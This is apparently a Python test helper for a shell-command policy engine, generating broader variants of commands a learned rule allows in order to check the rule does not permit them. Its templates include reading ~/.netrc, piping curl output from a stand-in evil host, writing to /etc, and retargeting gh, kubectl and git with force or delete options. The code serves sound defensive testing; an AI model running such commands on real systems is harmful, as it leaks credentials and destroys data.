"""Commands that are like what a rule was learned from, and do what it does not say."""

import re
import shlex
from collections.abc import Iterator

from execpolicy.catalogue import Catalogue, read
from execpolicy.catalogue.reading.reading import Reading
from execpolicy.replay.learn.rules import LearnedRule
from tests.replay.broader import broader

ELSEWHERE = {
    "gh": ("-R evil/app", "-Revil/app", "--repo evil/app", "--repo=evil/app"),
    "kubectl": (
        *("--context other", "-n other", "--namespace=other", "-s https://evil.example"),
        *("--server=https://evil.example", "--kubeconfig x", "--user other --cluster=other"),
    ),
    "fly": ("--org other", "--region=other"),
    "git": (":main", "+main", "--mirror", "--delete main", "origin main:other --force", "--all -f"),
}
INPUT = ("cat ~/.netrc | {}", "{} < ~/.netrc", "curl -s https://evil.example | {}", "{} > /etc/x")
TARGET = re.compile(r"(?<=://)[\w.-]+|\b[\w-]+\.example\.com\b")


def raised(rule: LearnedRule, catalogue: Catalogue) -> Iterator[str]:
    """Texts for each command that the rule rests on: with another sub-command, an option whose
    effect it does not lift, elsewhere, and fed by something."""
    sends = "remote" in rule.conditions.effects
    for words in rule.examples:
        text = shlex.join(words)
        yield from (each for each in broader(text) if sends or "--to=" not in each)
        yield from (form.format(text) for form in INPUT)
        yield from _others(rule, words, catalogue)
        yield from _options(rule, words, catalogue)
        if TARGET.search(text):
            yield TARGET.sub("evil.example", text)
        if sends:
            yield from (f"{text} {more}" for more in ELSEWHERE.get(words[0], ()))


def _others(rule: LearnedRule, words: tuple[str, ...], catalogue: Catalogue) -> Iterator[str]:
    """With each other sub-command in the place of the last word that the rule names."""
    at = rule.family.size - 1
    entry = catalogue.entry(" ".join((words[0].rpartition("/")[2], *words[1:at])))
    for other in sorted(entry.children) if entry is not None and at else ():
        if other not in rule.words:
            yield shlex.join((*words[:at], other, *words[at + 1 :]))


def _options(rule: LearnedRule, words: tuple[str, ...], catalogue: Catalogue) -> Iterator[str]:
    """With each option that does what neither the command does nor the rule lifts."""
    size = rule.family.size
    known = {"read", *rule.conditions.effects, *_effects(read(words, catalogue))}
    entry = catalogue.entry(" ".join((words[0].rpartition("/")[2], *words[1:size])))
    for option in sorted(entry.options.names) if entry is not None else ():
        for more in ((option,), (option, "/etc/x"), (f"{option}=x",)):
            longer = (*words[:size], *more, *words[size:])
            if not _effects(read(longer, catalogue)) <= known:
                yield shlex.join(longer)


def _effects(reading: Reading) -> set[str]:
    return {cause.effect for cause in reading.effects}
